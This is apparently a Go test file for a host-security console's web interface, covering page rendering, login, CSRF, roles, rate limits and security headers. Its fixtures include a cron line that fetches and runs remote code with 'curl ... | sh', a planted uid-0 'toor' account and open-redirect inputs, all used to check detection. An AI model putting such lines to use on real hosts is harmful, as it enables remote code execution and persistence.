package web

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/inventory"
	"github.com/vigilsec/vigil/internal/plugin"
	"github.com/vigilsec/vigil/internal/server/store"
)

func TestPagesRender(t *testing.T) {
	e := newEnv(t)
	e.seed()
	e.putInventory("h1", t0.Add(-2*time.Hour), false)
	e.putInventory("h1", t0.Add(-time.Hour), true)
	admin := e.login("admin", adminPW)
	var task taskJSON
	admin.json("POST", "/api/v1/tasks", taskOrder{Type: "vuln_scan", Targets: store.Targets{Hosts: []string{"h1"}}}, &task, 201)
	pages := map[string][]string{
		"/":                               {"Security score", "open critical alerts", "Execution (TA0002)"},
		"/hosts":                          {"web-1", "db-1", "online", "offline"},
		"/hosts?q=web":                    {"web-1"},
		"/hosts/h1":                       {"web-1", "Attributes"},
		"/hosts/h1?tab=accounts":          {"toor", "uid 0"},
		"/hosts/h1?tab=ports":             {"0.0.0.0", "8080", "exposed"},
		"/hosts/h1?tab=processes":         {"/usr/sbin/nginx"},
		"/hosts/h1?tab=middleware":        {"nginx", "1.22.1"},
		"/hosts/h1?tab=scheduled_tasks":   {"curl -s http://203.0.113.7/x | sh"},
		"/hosts/h1?tab=startup_items":     {"ssh.service"},
		"/hosts/h1?tab=packages":          {"xz-utils", "5.6.0-1"},
		"/hosts/h1?tab=containers":        {"nginx:1.25", "privileged"},
		"/hosts/h1?tab=changes":           {"new uid-0 user", "toor"},
		"/hosts/h1?tab=vulns":             {"CVE-2024-3094"},
		"/hosts/h1?tab=alerts":            {"Cron persistence"},
		"/hosts/h2?tab=accounts":          {"No inventory received"},
		"/alerts":                         {"Cron persistence", "Reverse shell", "3 alerts match"},
		"/alerts?severity=critical":       {"Cron persistence", "1 alerts match"},
		"/alerts/a1":                      {"/usr/sbin/nginx", "/usr/bin/crontab", "crontab /tmp/evil", "/var/spool/cron/crontabs/www-data", "nginx:1.25", "Persistence (TA0003)", "Mark handled"},
		"/vulns":                          {"CVE-2024-3094", "CVE-2023-0001"},
		"/vulns/CVE-2024-3094":            {"web-1", "Fix on all 2 affected hosts", "h2"},
		"/tasks":                          {"vuln_scan", "Order a task"},
		fmt.Sprintf("/tasks/%d", task.ID): {"pending", "h1"},
		"/audit":                          {"user.login", "task.submit"},
		"/settings/users":                 {"analyst", "read-only"},
		"/settings/enrol":                 {"Create a token"},
		"/settings/tokens":                {"Create a token"},
		"/settings/notifications":         {"Webhook"},
		"/settings/rules":                 {"allow-list is empty"},
	}
	for path, wants := range pages {
		t.Run(strings.ReplaceAll(path, "/", "_"), func(t *testing.T) {
			code, body := admin.do("GET", path, nil, "")
			if code != 200 {
				t.Fatalf("GET %s: %d: %s", path, code, body)
			}
			for _, w := range wants {
				if !strings.Contains(body, w) {
					t.Errorf("GET %s: no %q in the page", path, w)
				}
			}
		})
	}
	// Oddities answer with errors, not panics.
	for path, want := range map[string]int{"/hosts/nope": 404, "/alerts/nope": 404, "/vulns/nope": 404, "/tasks/abc": 400,
		"/tasks/999": 404, "/hosts/h1?tab=nope": 400, "/alerts?severity=severe": 400, "/nope": 404, "/alerts?cursor=zzz": 400} {
		if code, _ := admin.do("GET", path, nil, ""); code != want {
			t.Errorf("GET %s: %d, want %d", path, code, want)
		}
	}
}

// putInventory stores a snapshot of h; changed adds a uid-0 user and a
// port so that the diff has something to show.
func (e *env) putInventory(host string, at time.Time, changed bool) {
	e.t.Helper()
	ok := plugin.Status{State: plugin.StateSucceeded}
	s := inventory.Snapshot{SchemaVersion: 1, CollectedAt: at, AgentVersion: "1.0.0", Root: "/", Status: map[string]plugin.Status{}}
	for _, c := range inventory.Categories {
		s.Status[c] = ok
	}
	s.Host = &inventory.Host{Hostname: "web-1", OS: inventory.OSRelease{ID: "debian", PrettyName: "Debian GNU/Linux 12 (bookworm)"},
		Interfaces: []inventory.Interface{{Name: "eth0", Addresses: []inventory.IPAddress{{Address: "198.51.100.4", PrefixLen: 24, Family: 4, Public: true}}}}}
	s.Accounts = &inventory.Accounts{Users: []inventory.User{{Name: "root", UID: 0, Shell: "/bin/bash", Privileged: true, PasswordState: "locked", AuthorizedKeys: []inventory.AuthorizedKey{}}},
		Groups: []inventory.Group{{Name: "root", GID: 0}}}
	s.Processes = []inventory.Process{{PID: 812, PPID: 1, Name: "nginx", Exe: "/usr/sbin/nginx", Cmdline: "nginx: master", User: "root"}}
	s.Middleware = []inventory.Middleware{{Name: "nginx", Kind: "web", Version: "1.22.1", Running: true, PID: 812}}
	s.ScheduledTasks = []inventory.ScheduledTask{{Type: "cron", User: "root", Schedule: "*/5 * * * *", Command: "curl -s http://203.0.113.7/x | sh", Source: "/etc/crontab", Line: 3, Enabled: true}}
	s.StartupItems = []inventory.StartupItem{{Type: "systemd", Name: "ssh.service", Source: "/lib/systemd/system/ssh.service", Enabled: true}}
	s.Packages = []inventory.Package{{Name: "xz-utils", Version: "5.6.0-1", Type: "deb", Arch: "amd64"}}
	s.Containers = []inventory.Container{{ID: "c0ffee0123456789", Name: "web", Image: "nginx:1.25", Engine: "docker", State: "running", Privileged: true}}
	if changed {
		s.Accounts.Users = append(s.Accounts.Users, inventory.User{Name: "toor", UID: 0, Shell: "/bin/sh", Privileged: true, PasswordState: "set", AuthorizedKeys: []inventory.AuthorizedKey{}})
		s.Ports = []inventory.Port{{Protocol: "tcp", Family: 4, Address: "0.0.0.0", Port: 8080, PID: 812, Process: "nginx", Exe: "/usr/sbin/nginx", Exposed: true}}
	}
	b, err := json.Marshal(&s)
	must(e.t, err)
	if _, _, err := e.st.PutInventory(context.Background(), host, at, b); err != nil {
		e.t.Fatal(err)
	}
}

func TestLoginLogout(t *testing.T) {
	e := newEnv(t)
	c := e.anon()
	if code, body := c.loginAttempt("admin", "wrong-password-xx"); code != http.StatusUnauthorized || !strings.Contains(body, "wrong user name or password") {
		t.Fatalf("bad password: %d", code)
	}
	if code, _ := c.loginAttempt("nobody", adminPW); code != http.StatusUnauthorized {
		t.Fatalf("unknown user: %d", code)
	}
	c = e.login("admin", adminPW)
	// The session cookie is HttpOnly, SameSite=Strict and its value is not
	// what the store keeps.
	resp := c.req("GET", "/login", nil, "", nil)
	resp.Body.Close()
	u, _ := url.Parse(e.srv.URL)
	var sess string
	for _, ck := range c.c.Jar.Cookies(u) {
		if ck.Name == sessionCookie {
			sess = ck.Value
		}
	}
	if len(sess) < 43 {
		t.Fatalf("session cookie %q is too short", sess)
	}
	if _, err := e.st.GetSession(context.Background(), sess, t0); err == nil {
		t.Error("the store keeps the cookie value itself")
	}
	if _, err := e.st.GetSession(context.Background(), hashToken(sess), t0); err != nil {
		t.Errorf("session not stored by hash: %v", err)
	}
	if code, body := c.do("GET", "/", nil, ""); code != 200 || !strings.Contains(body, "Security score") {
		t.Fatalf("dashboard: %d", code)
	}
	// Logging out needs the CSRF token too.
	if code, _ := c.do("POST", "/logout", nil, ""); code != http.StatusForbidden {
		t.Errorf("logout without CSRF: %d", code)
	}
	if code, _ := c.form("/logout", nil); code != http.StatusSeeOther {
		t.Fatalf("logout: %d", code)
	}
	if _, err := e.st.GetSession(context.Background(), hashToken(sess), t0); err == nil {
		t.Error("session kept after logout")
	}
	// The old cookie no longer works, even when replayed.
	c2 := e.anon()
	resp = c2.req("GET", "/api/v1/me", nil, "", map[string]string{"Cookie": sessionCookie + "=" + sess})
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("replayed cookie after logout: %d", resp.StatusCode)
	}
	if len(e.audit("user.login")) != 1 || len(e.audit("user.logout")) != 1 || len(e.audit("user.login_failed")) != 2 {
		t.Errorf("audit: login %d logout %d failed %d", len(e.audit("user.login")), len(e.audit("user.logout")), len(e.audit("user.login_failed")))
	}
	// Sessions expire.
	c = e.login("reader", readerPW)
	e.clock.Add(13 * time.Hour)
	c.json("GET", "/api/v1/me", nil, nil, http.StatusUnauthorized)
}

func TestLoginCookieFlags(t *testing.T) {
	st := newEnv(t).st
	h, err := New(Options{Store: st, SecureCookies: true, Now: func() time.Time { return t0 }})
	must(t, err)
	rec := newRecorder(h, "GET", "/login", nil)
	ck := rec.Result().Cookies()
	if len(ck) != 1 || !ck[0].HttpOnly || !ck[0].Secure || ck[0].SameSite != http.SameSiteStrictMode {
		t.Fatalf("login cookie flags: %+v", ck)
	}
}

func TestDisabledUserLosesAccess(t *testing.T) {
	e := newEnv(t)
	c := e.login("analyst", analystPW)
	admin := e.login("admin", adminPW)
	admin.json("PATCH", "/api/v1/users/analyst", userInput{Disabled: new(true)}, nil, 200)
	c.json("GET", "/api/v1/me", nil, nil, http.StatusUnauthorized)
	if code, _ := e.anon().loginAttempt("analyst", analystPW); code != http.StatusUnauthorized {
		t.Errorf("disabled user logged in: %d", code)
	}
}

func TestLoginCSRF(t *testing.T) {
	e := newEnv(t)
	c := e.anon()
	form := url.Values{"csrf_token": {"forged"}, "username": {"admin"}, "password": {adminPW}}
	if code, _ := c.do("POST", "/login", strings.NewReader(form.Encode()), "application/x-www-form-urlencoded"); code != http.StatusForbidden {
		t.Errorf("login without the login cookie: %d", code)
	}
}

func TestOpenRedirect(t *testing.T) {
	for _, n := range []string{"//evil.example/", "https://evil.example/", "/\\evil.example", "evil", "/ok\r\nX: y"} {
		if safeNext(n) {
			t.Errorf("safeNext(%q) = true", n)
		}
	}
	if !safeNext("/alerts?status=open") {
		t.Error("a local path is refused")
	}
}

func TestLoginRateLimit(t *testing.T) {
	e := newEnv(t)
	c := e.anon()
	for i := range maxFailsPerUser {
		if code, _ := c.loginAttempt("admin", "wrong-password-xx"); code != http.StatusUnauthorized {
			t.Fatalf("attempt %d: %d", i, code)
		}
	}
	// Now even the right password is refused, for this address and user.
	if code, _ := c.loginAttempt("admin", adminPW); code != http.StatusTooManyRequests {
		t.Fatalf("after %d failures: %d, want 429", maxFailsPerUser, code)
	}
	// Another user from the same address is not locked out yet.
	if code, _ := c.loginAttempt("analyst", analystPW); code != http.StatusSeeOther {
		t.Errorf("other user: %d", code)
	}
	e.clock.Add(loginWindow)
	if code, _ := e.anon().loginAttempt("admin", adminPW); code != http.StatusSeeOther {
		t.Errorf("after the window: %d", code)
	}
	// The address limit holds across user names.
	l := newLimiter(e.clock.Now)
	for i := range maxFailsPerAddr {
		l.failed("192.0.2.1", fmt.Sprint("u", i))
	}
	if l.allowed("192.0.2.1", "fresh") || !l.allowed("192.0.2.2", "fresh") {
		t.Error("address limit")
	}
}

func TestNoSession(t *testing.T) {
	e := newEnv(t)
	e.seed()
	c := e.anon()
	for _, p := range []string{"/api/v1/hosts", "/api/v1/alerts", "/api/v1/alerts/a1", "/api/v1/me", "/api/v1/audit", "/metrics"} {
		if code, body := c.do("GET", p, nil, ""); code != http.StatusUnauthorized || !strings.Contains(body, `"error"`) {
			t.Errorf("GET %s: %d %s", p, code, body)
		}
	}
	resp := c.req("GET", "/alerts?status=open", nil, "", nil)
	resp.Body.Close()
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/login?next=%2Falerts%3Fstatus%3Dopen" {
		t.Errorf("console page: %d → %q", resp.StatusCode, resp.Header.Get("Location"))
	}
	for _, r := range stateChangingRoutes() {
		if code, _ := c.do(r.method, r.path, strings.NewReader(r.body), r.ctype()); code != http.StatusUnauthorized {
			t.Errorf("%s %s without a session: %d", r.method, r.path, code)
		}
	}
	// A bearer token that does not exist, and a malformed header.
	c.bearer = "vigil_api_nope"
	c.json("GET", "/api/v1/hosts", nil, nil, http.StatusUnauthorized)
	resp = c.req("GET", "/api/v1/hosts", nil, "", map[string]string{"Authorization": "Basic YWRtaW46eA=="})
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("basic auth: %d", resp.StatusCode)
	}
}

func TestBadCSRF(t *testing.T) {
	e := newEnv(t)
	e.seed()
	c := e.login("admin", adminPW)
	good := c.csrf
	before := e.auditCount()
	for _, tok := range []string{"", "forged", good[:len(good)-1]} {
		c.csrf = tok
		for _, r := range stateChangingRoutes() {
			hdr := map[string]string{}
			if tok != "" {
				hdr[csrfHeader] = tok
			}
			resp := c.req(r.method, r.path, strings.NewReader(r.body), r.ctype(), hdr)
			resp.Body.Close()
			if resp.StatusCode != http.StatusForbidden {
				t.Errorf("%s %s with CSRF %q: %d", r.method, r.path, tok, resp.StatusCode)
			}
		}
	}
	if n := e.auditCount(); n != before {
		t.Errorf("requests with a bad CSRF token wrote %d audit entries", n-before)
	}
	// Another session's token does not work either.
	other := e.login("admin", adminPW)
	c.csrf = other.csrf
	c.json("PATCH", "/api/v1/alerts/a1", alertChange{Version: 1, Status: new("handled")}, nil, http.StatusForbidden)
	c.csrf = good
	c.json("PATCH", "/api/v1/alerts/a1", alertChange{Version: 1, Status: new("handled")}, nil, 200)
}

// route is one state-changing request.
type route struct {
	method, path, body string
	min                store.Role
}

func (r route) ctype() string {
	if strings.HasPrefix(r.path, "/api/") {
		return "application/json"
	}
	return "application/x-www-form-urlencoded"
}

// stateChangingRoutes lists every non-GET route with a valid body, and
// the least role allowed. TestRouteListComplete checks it against the
// source.
func stateChangingRoutes() []route {
	return []route{
		{"POST", "/logout", "", store.RoleReadOnly},
		{"PUT", "/api/v1/hosts/h1/attrs", `{"labels":["x"],"groups":["g"],"importance":1}`, store.RoleAnalyst},
		{"POST", "/api/v1/hosts/h1/revoke", ``, store.RoleAdmin},
		{"PATCH", "/api/v1/alerts/a1", `{"version":1,"status":"handled"}`, store.RoleAnalyst},
		{"POST", "/api/v1/alerts/a1/allowlist", `{"scope":"host"}`, store.RoleAnalyst},
		{"DELETE", "/api/v1/allowlist/x", ``, store.RoleAnalyst},
		{"POST", "/api/v1/vulns/CVE-2024-3094/fix", ``, store.RoleAnalyst},
		{"POST", "/api/v1/tasks", `{"type":"vuln_scan","targets":{"all":true}}`, store.RoleAnalyst},
		{"POST", "/api/v1/users", `{"username":"new","password":"new-password-123","role":"analyst"}`, store.RoleAdmin},
		{"PATCH", "/api/v1/users/analyst", `{"role":"admin"}`, store.RoleAdmin},
		{"DELETE", "/api/v1/users/analyst", ``, store.RoleAdmin},
		{"POST", "/api/v1/tokens", `{"name":"t"}`, store.RoleAdmin},
		{"DELETE", "/api/v1/tokens/x", ``, store.RoleAdmin},
		{"POST", "/api/v1/enrol-tokens", `{"name":"t"}`, store.RoleAdmin},
		{"DELETE", "/api/v1/enrol-tokens/x", ``, store.RoleAdmin},
		{"PUT", "/api/v1/settings/notifications", `{"syslog":{"addr":"127.0.0.1:6514"}}`, store.RoleAdmin},
		{"POST", "/hosts/h1/attrs", "labels=x&groups=g&importance=1", store.RoleAnalyst},
		{"POST", "/hosts/h1/revoke", "", store.RoleAdmin},
		{"POST", "/alerts/a1", "version=1&status=handled", store.RoleAnalyst},
		{"POST", "/alerts/a1/allowlist", "scope=host", store.RoleAnalyst},
		{"POST", "/vulns/CVE-2024-3094/fix", "", store.RoleAnalyst},
		{"POST", "/tasks", "type=vuln_scan&all=on", store.RoleAnalyst},
		{"POST", "/settings/users", "username=new&password=new-password-123&role=analyst", store.RoleAdmin},
		{"POST", "/settings/users/analyst", "role=admin", store.RoleAdmin},
		{"POST", "/settings/users/analyst/delete", "", store.RoleAdmin},
		{"POST", "/settings/enrol", "name=t&valid_hours=24", store.RoleAdmin},
		{"POST", "/settings/enrol/x/delete", "", store.RoleAdmin},
		{"POST", "/settings/tokens", "name=t", store.RoleAdmin},
		{"POST", "/settings/tokens/x/delete", "", store.RoleAdmin},
		{"POST", "/settings/notifications", "syslog_addr=127.0.0.1:6514", store.RoleAdmin},
		{"POST", "/settings/rules/x/delete", "", store.RoleAnalyst},
	}
}

// TestRouteListComplete checks that every state-changing pattern in the
// source is in stateChangingRoutes, so a new handler cannot skip the role
// and CSRF tests.
func TestRouteListComplete(t *testing.T) {
	pat := regexp.MustCompile(`"(POST|PUT|PATCH|DELETE) (/[^"]*)"`)
	var listed []string
	for _, r := range stateChangingRoutes() {
		listed = append(listed, r.method+" "+r.path)
	}
	for _, f := range []string{"api.go", "console.go", "settings.go"} {
		src, err := os.ReadFile(f)
		must(t, err)
		for _, m := range pat.FindAllStringSubmatch(string(src), -1) {
			if m[2] == "/login" {
				continue // before any session: its own CSRF cookie, tested in TestLoginCSRF
			}
			re := regexp.MustCompile("^" + m[1] + " " + regexp.MustCompile(`\\\{[^}]+\\\}`).ReplaceAllString(regexp.QuoteMeta(m[2]), `[^/]+`) + "$")
			if !slices.ContainsFunc(listed, re.MatchString) {
				t.Errorf("route %s %s is not in stateChangingRoutes", m[1], m[2])
			}
		}
	}
}

func TestRolesEnforced(t *testing.T) {
	for _, who := range []struct {
		user, pw string
		role     store.Role
	}{{"reader", readerPW, store.RoleReadOnly}, {"analyst", analystPW, store.RoleAnalyst}} {
		t.Run(who.user, func(t *testing.T) {
			e := newEnv(t)
			e.seed()
			c := e.login(who.user, who.pw)
			p := principal{User: store.User{Role: who.role}}
			for _, r := range stateChangingRoutes() {
				if p.can(r.min) {
					continue
				}
				before := e.auditCount()
				hdr := map[string]string{csrfHeader: c.csrf}
				resp := c.req(r.method, r.path, strings.NewReader(r.body), r.ctype(), hdr)
				resp.Body.Close()
				if resp.StatusCode != http.StatusForbidden {
					t.Errorf("%s %s as %s: %d, want 403", r.method, r.path, who.role, resp.StatusCode)
				}
				if n := e.auditCount(); n != before {
					t.Errorf("%s %s as %s wrote the audit log", r.method, r.path, who.role)
				}
			}
			// Nothing changed.
			a, err := e.st.GetAlert(context.Background(), "a1")
			must(t, err)
			h, err := e.st.GetHost(context.Background(), "h1")
			must(t, err)
			if who.role == store.RoleReadOnly && (a.Status != store.StatusOpen || len(h.Labels) != 0) {
				t.Errorf("read-only user changed state: alert %s labels %v", a.Status, h.Labels)
			}
			if h.Revoked || len(e.tasks.Submissions()) != 0 && who.role == store.RoleReadOnly {
				t.Error("state changed")
			}
			u, err := e.st.GetUser(context.Background(), "analyst")
			must(t, err)
			if u.Role != store.RoleAnalyst {
				t.Error("analyst promoted")
			}
			// Admin-only reads are refused too.
			for _, p := range []string{"/api/v1/users", "/api/v1/tokens", "/api/v1/enrol-tokens", "/api/v1/settings/notifications"} {
				c.json("GET", p, nil, nil, http.StatusForbidden)
			}
			for _, p := range []string{"/settings/users", "/settings/tokens", "/settings/enrol", "/settings/notifications"} {
				if code, _ := c.do("GET", p, nil, ""); code != http.StatusForbidden {
					t.Errorf("GET %s as %s: %d", p, who.role, code)
				}
			}
		})
	}
	// And each allowed role can do what the table says (status < 400 or a
	// domain error, never 403).
	e := newEnv(t)
	e.seed()
	admin := e.login("admin", adminPW)
	for _, r := range stateChangingRoutes() {
		if r.path == "/logout" || strings.Contains(r.path, "users/analyst") {
			continue
		}
		resp := admin.req(r.method, r.path, strings.NewReader(r.body), r.ctype(), map[string]string{csrfHeader: admin.csrf})
		resp.Body.Close()
		if resp.StatusCode == http.StatusForbidden || resp.StatusCode == http.StatusUnauthorized || resp.StatusCode >= 500 {
			t.Errorf("%s %s as admin: %d", r.method, r.path, resp.StatusCode)
		}
	}
}

func TestSecurityHeaders(t *testing.T) {
	e := newEnv(t)
	for _, p := range []string{"/login", "/api/v1/hosts", "/static/vigil.css", "/nope"} {
		resp := e.anon().req("GET", p, nil, "", nil)
		resp.Body.Close()
		h := resp.Header
		if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'self'") || strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "unsafe-eval") {
			t.Errorf("%s: CSP %q", p, csp)
		}
		if h.Get("X-Frame-Options") != "DENY" || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Referrer-Policy") != "no-referrer" {
			t.Errorf("%s: headers %v", p, h)
		}
	}
	// No inline script or style anywhere in the console.
	admin := e.login("admin", adminPW)
	for _, p := range []string{"/", "/hosts", "/alerts", "/settings/users", "/login"} {
		_, body := admin.do("GET", p, nil, "")
		if regexp.MustCompile(`<script>|<script [^>]*>[^<]|<style|\sstyle="|\son[a-z]+=`).MatchString(body) {
			t.Errorf("%s has inline script or style", p)
		}
	}
	// htmx is served from the binary.
	code, body := e.anon().do("GET", "/static/htmx.min.js", nil, "")
	if code != 200 || !strings.Contains(body, "htmx") {
		t.Errorf("htmx: %d", code)
	}
}

func TestEnsureAdmin(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	// newEnv made an admin: nothing to do.
	pw, err := EnsureAdmin(ctx, e.st, "", t0)
	if err != nil || pw != "" {
		t.Fatalf("with an admin: %q, %v", pw, err)
	}
	must(t, e.st.DeleteUser(ctx, "admin"))
	pw, err = EnsureAdmin(ctx, e.st, "", t0)
	if err != nil || len(pw) < 20 {
		t.Fatalf("bootstrap: %q, %v", pw, err)
	}
	e.login("admin", pw)
	if pw2, _ := EnsureAdmin(ctx, e.st, "", t0); pw2 != "" {
		t.Error("second call made another password")
	}
	if len(e.audit("user.bootstrap")) != 1 {
		t.Error("no audit entry")
	}
}

func TestPasswordHash(t *testing.T) {
	h, err := HashPassword("correct horse")
	must(t, err)
	if !strings.HasPrefix(h, "$argon2id$v=19$m=19456,t=2,p=1$") {
		t.Errorf("hash %q", h)
	}
	h2, _ := HashPassword("correct horse")
	if h == h2 {
		t.Error("no salt")
	}
	if !CheckPassword(h, "correct horse") || CheckPassword(h, "correct horsf") || CheckPassword(h, "") {
		t.Error("CheckPassword")
	}
	for _, bad := range []string{"", "$argon2id$", "$2a$10$abc", strings.Replace(h, "m=19456", "m=99999999", 1), strings.Replace(h, "t=2", "t=0", 1)} {
		if CheckPassword(bad, "correct horse") {
			t.Errorf("CheckPassword(%q) = true", bad)
		}
	}
	if _, err := HashPassword(""); err == nil {
		t.Error("empty password hashed")
	}
}
